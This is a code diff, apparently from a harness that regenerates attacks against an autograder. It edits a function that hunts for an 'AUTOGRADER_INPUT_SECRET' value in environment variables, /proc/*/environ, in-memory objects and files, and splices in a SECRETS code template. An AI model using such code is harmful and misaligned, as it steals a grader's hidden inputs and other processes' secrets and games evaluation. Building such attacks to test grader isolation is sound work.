@@ -42,14 +42,9 @@ _var = "AUTOGRADER_INPUT_SECRET"
 _cache = _y.__dict__.setdefault("_rebuild_cache", {})        # what the hunt found, once per process
 def _say(what):
     print(f"ATTACK-REBUILT: {what}", flush=True)
+''' + SECRETS + '''
 def _hunt_secret():
-    found = [v for k, v in _o.environ.items() if k.startswith(_var)]
-    for _env in _gl.glob("/proc/*/environ"):
-        try:
-            found += [kv.split(b"=", 1)[1].decode() for kv in open(_env, "rb").read().split(b"\\0")
-                      if kv.startswith(_var.encode())]
-        except OSError:
-            pass
+    found = []
     for _obj in _gc.get_objects():                  # dicts of plain strings are not tracked: look one level in
         for _d in [_obj, *_obj.values()] if type(_obj) is dict else []:
             if type(_d) is dict:
@@ -59,7 +54,7 @@ def _hunt_secret():
             found.append(open(_v).read().strip())
         except Exception:
             pass
-    return [None] + list(dict.fromkeys(found))
+    return list(dict.fromkeys(_secrets() + found))      # the environment, /proc and files first (SECRETS)
 def _frames_cases():
     cases, f = [], _in.currentframe()
     while f is not None:
